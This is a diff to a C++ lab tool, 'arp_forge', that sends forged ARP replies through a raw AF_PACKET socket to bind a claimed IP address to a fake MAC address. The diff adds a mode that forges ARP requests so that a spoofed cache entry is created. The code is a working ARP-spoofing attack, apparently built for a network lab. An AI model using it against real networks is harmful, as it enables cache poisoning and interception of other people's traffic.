@@ -1,8 +1,9 @@
 // SPDX-License-Identifier: MIT
-// The lab's attacker: sends forged ARP replies that claim an address for a MAC address nobody
-// answers to, straight onto the link through an AF_PACKET socket.
+// The lab's attacker: sends forged ARP replies (or, with `request`, forged requests, which create
+// an entry where none is) that claim an address for a MAC address nobody answers to, straight
+// onto the link through an AF_PACKET socket.
 //
-//   arp_forge IFACE CLAIMED_IP FAKE_MAC VICTIM_IP VICTIM_MAC [COUNT [INTERVAL_MS]]
+//   arp_forge IFACE CLAIMED_IP FAKE_MAC VICTIM_IP VICTIM_MAC [COUNT [INTERVAL_MS [request]]]
 //
 // Prints one line with the wall-clock time in microseconds for every reply sent.
 #include <arpa/inet.h>
@@ -36,7 +37,7 @@ bool parseMac(const char* text, unsigned char mac[6]) {
 int main(int argc, char** argv) {
     if (argc < 6) {
         std::fprintf(stderr, "usage: arp_forge IFACE CLAIMED_IP FAKE_MAC VICTIM_IP VICTIM_MAC "
-                             "[COUNT [INTERVAL_MS]]\n");
+                             "[COUNT [INTERVAL_MS [request]]]\n");
         return 2;
     }
     unsigned char fakeMac[6];
@@ -51,6 +52,7 @@ int main(int argc, char** argv) {
     }
     const int count = argc > 6 ? std::stoi(argv[6]) : 1;
     const int intervalMs = argc > 7 ? std::stoi(argv[7]) : 1000;
+    const bool forgeRequest = argc > 8 && std::string(argv[8]) == "request";
 
     const int fd = ::socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ARP));
     if (fd < 0) {
@@ -83,10 +85,12 @@ int main(int argc, char** argv) {
     arp[2] = 0x08; // IPv4
     arp[4] = 6;
     arp[5] = 4;
-    arp[7] = 2; // reply
+    arp[7] = forgeRequest ? 1 : 2;
     std::memcpy(arp + 8, fakeMac, 6);
     std::memcpy(arp + 14, &claimed, 4);
-    std::memcpy(arp + 18, victimMac, 6);
+    if (!forgeRequest) { // a request leaves the target's hardware address to be found out
+        std::memcpy(arp + 18, victimMac, 6);
+    }
     std::memcpy(arp + 24, &victim, 4);
 
     sockaddr_ll to{};
